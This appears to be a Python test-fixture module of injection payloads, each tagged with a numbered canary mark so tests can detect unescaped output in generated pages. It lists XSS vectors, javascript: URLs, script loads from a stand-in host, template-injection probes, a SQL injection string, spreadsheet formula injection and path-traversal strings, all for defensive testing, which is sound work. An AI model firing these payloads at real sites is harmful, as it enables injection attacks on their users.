"""Payloads of many kinds: each is text that becomes something else where it is not taken as text.

In each of them the word "canary" becomes a mark of its own, such as canary00017, by which it is found again in what is built.
"""

from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass
from dataclasses import field as attribute
from typing import Final

MARK: Final = "canary{:05d}"
LONGEST: Final = {
    "text": 4_950,
    "url": 4_950,
    "org_id": 450,
    "ref": 450,
    "refs": 450,
    "grant": 450,
}  # of a sort; 140 of the others
MARKUP: Final = r"""
<script>canary()</script>
<ScRiPt SRC=//canary.example/x.js></sCrIpT>
<script/canary>canary()</script >
</script><script>canary()</script>
<scr<script>ipt>canary()</scr</script>ipt>
<<script>canary()//<</script>
<script>canary()
<img src=canary onerror=canary()>
<img src="canary" onerror="canary()" alt='canary'>
<img/src=`canary`onerror=canary()//
<img srcset="//canary.example/x 2x">
<body onload=canary()>
<svg/onload=canary()>
<details open ontoggle=canary()>canary</details>
<video><source onerror=canary()></video>
<input autofocus onfocus=canary()>
<marquee onstart=canary()>canary</marquee>
" onmouseover="canary()
' onmouseover='canary()
` onmouseover=`canary()
canary onmouseover=canary()
"><canary>
'><canary>
><canary>
"/><canary/>
\"><canary>
" style="background:url(//canary.example/)" x="
<svg><script>canary()</script></svg>
<svg><a xlink:href="javascript:canary()"><text>canary</text></a></svg>
<svg><animate onbegin=canary() attributeName=x dur=1s>
<svg><foreignObject><canary></foreignObject></svg>
<svg></p><style><a id="</style><img src=canary onerror=canary()>">
<math><mtext><table><mglyph><style><img src=canary onerror=canary()>
<math href="javascript:canary()">canary</math>
<iframe src="https://canary.example/"></iframe>
<iframe srcdoc="<script>parent.canary=1</script>"></iframe>
<object data="https://canary.example/x.swf"></object>
<embed src="//canary.example/x">
<template><canary></template>
<template shadowrootmode=open><canary></template>
<style>@import "https://canary.example/x.css";</style>
</style><canary>
<link rel=stylesheet href=//canary.example/x.css>
<base href="https://canary.example/">
<meta http-equiv=refresh content="0;url=https://canary.example/">
<form action="https://canary.example/"><button>canary</button></form>
<form name=forms><input name=location value=canary></form>
<a id=location name=__proto__ href=canary>canary</a>
<noscript><p title="</noscript><img src=canary onerror=canary()>">
</noscript><canary>
</textarea><canary>
</title><canary>
--><canary><!--
<!-- --!><canary>-->
<!--><canary-->
]]><canary><![CDATA[
<![CDATA[<canary>]]>
<?php canary() ?>
<!doctype canary>
</main></body></html><canary>
</p></td></tr></tbody></table></section><canary>
<table><tr><td><canary>
<select><option><canary>
<plaintext>canary
<xmp><canary></xmp>
<dialog open>canary</dialog>
<p style="background:url(//canary.example/)">canary
<div popover id=canary>canary</div>
<button formaction="javascript:canary()">canary</button>
<a href="javascript:canary()">canary</a>
<a href="&#106;avascript:canary()">canary</a>
<a ping=//canary.example/ href=#>canary</a>
<canary-element is=canary slot=canary>
""".strip().splitlines()
REFUSED: Final = [
    *r"""
javascript:canary()
JaVaScRiPt:canary()
javascript://canary.example/%0acanary()
javascript:canary()//https://canary.example/
&#106;avascript:canary()
&#x6A;avascript&#58;canary()
javascript&colon;canary()
data:text/html,<script>canary()</script>
DATA:text/html;base64,PHNjcmlwdD4=canary
vbscript:canary()
VBScript:MsgBox("canary")
view-source:javascript:canary()
feed:javascript:canary()
blob:https://canary.example/x
file:///etc/canary
ftp://canary.example/
about:blank#canary
//canary.example/x
\\canary.example\x
/\canary.example/x
https:canary.example
https://canary:secret@canary.example/
""".strip().splitlines(),
    "java\tscript:canary()",
    "java\nscript:canary()",
    "java\rscript:canary()",
]
ODD: Final = r"""
https://canary.example\@elsewhere.example/
https:/canary.example
https:///canary.example
https:\\canary.example\x
https://[canary
#canary
?canary
../../canary
""".strip().splitlines()
LINKED: Final = r"""
https://canary.example/" onclick="canary()
https://canary.example/'><canary>
https://canary.example/<canary>
https://canary.example/ onmouseover=canary()
https://canary.example/#{{7*7}}
https://canary.example/?a=1&lt;canary&b=%22%3E
HTTPS://canary.example/
http://canary.example:8080/`canary`
mailto:?subject=canary"><canary>
""".strip().splitlines()
TEMPLATES: Final = r"""
canary {{7*7}} canary
canary {{ config }} {{ canary.__class__.__mro__ }}
canary {% raw %} {% endraw %} {% include "canary" %}
canary {# canary #} canary
{{ "canary"|safe }} {%- set x = 1 -%}
canary ${7*7} canary `${canary()}`
canary #{7*7} canary
canary <%= 7*7 %> canary
{canary} {0.__class__} {value} {place}
%(canary)s %s %n $canary ${canary} [[canary]]
portal-hole-title portal-hole-content portal-hole-structured portal-hole-data portal-hole-policy canary
""".strip().splitlines()
PLAIN: Final = [
    *r"""
[canary](javascript:canary())
![canary](https://canary.example/x.png){: onclick=canary() }
[canary]: javascript:canary()
<https://canary.example/>
**canary** __canary__ ~~canary~~ ==canary==
# canary
--8<-- "canary.md"
- [ ] canary ::: canary !!! canary
``` canary ```
$$\href{javascript:canary()}{canary}$$ \(canary\) \[canary\]
canary `canary` ${canary}
&lt;canary&gt; &amp;lt;canary&amp;gt; &#60;canary&#62; &copy;
%3Ccanary%3E \u003ccanary\u003e \x3ccanary\x3e +ADw-canary+AD4-
＜canary＞ ‹canary› ʺ canary
=HYPERLINK("https://canary.example/","canary")
@SUM(canary)
+canary|' /C calc'!A0
' OR 1=1 -- canary
../../../etc/canary%00
C:\canary\con
canary.__proto__.constructor.prototype
null undefined NaN Infinity 1e999 true canary
CANARY is shouted here, canary
Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch ŵ ŷ canary
👩‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿 👍🏽 canary 🇬🇧
مجلس canary עיר İıſK ß ﷺ
canary Ｃａｎａｒｙ ᴄᴀɴᴀʀʏ
""".strip().splitlines(),
    "canary zero\u200bwidth\u200d\u2060\ufeffsoft\u00adhyphen",
    "canary left\u200eright\u200f\u061cmarks",
    "canary line\u2028paragraph\u2029next",
    "canary first line\nsecond line\r\nthird line",
    "canary \x85\x96\x9c spoilt canary",
    "canary tab\ttab\u00a0space\u3000wide",
    "canary e\u0301 Z\u0351\u0343\u035d\u0320a\u0334l\u0336g\u0323o",
    "canary private \ue000 tags \U000e0041\U000e0042",
    "canary" + "W" * 450,
    "canary" + "ŵ-" * 2_300,
]
PAYLOADS: Final = (*MARKUP, *REFUSED, *ODD, *LINKED, *TEMPLATES, *PLAIN)
NAMING: Final = [payload for payload in PAYLOADS if "/" not in payload]  # what a file may be called
CONTROLS: Final = [f"canary {character} canary" for character in "\x01\x08\x0b\x0c\x1b\x7f\u202a\u202e\u2066\u2069\ufffe\uffff"]


@dataclass(frozen=True, slots=True)
class Dealt:
    """`meant` says which payload each mark stands for; `deal` gives the next one of its sort."""

    meant: dict[str, str] = attribute(default_factory=dict)
    turns: Counter[str] = attribute(default_factory=Counter)

    def deal(self, sort: str, longest: int = 0, among: Sequence[str] = PAYLOADS) -> str:
        """The next payload of its sort that is no longer than may be, with a mark of its own."""
        while not fits(among[self.turns[sort] % len(among)], sort, longest):
            self.turns[sort] += 1
        payload = among[self.turns[sort] % len(among)]
        self.turns[sort] += 1
        mark = MARK.format(len(self.meant))
        self.meant[mark] = payload
        return payload.replace("canary", mark)


def fits(payload: str, sort: str, longest: int = 0) -> bool:
    """Whether a payload is not too long for a sort of text, or for the one field that may hold less."""
    return len(payload.replace("canary", MARK)) <= (longest or LONGEST.get(sort, 140))
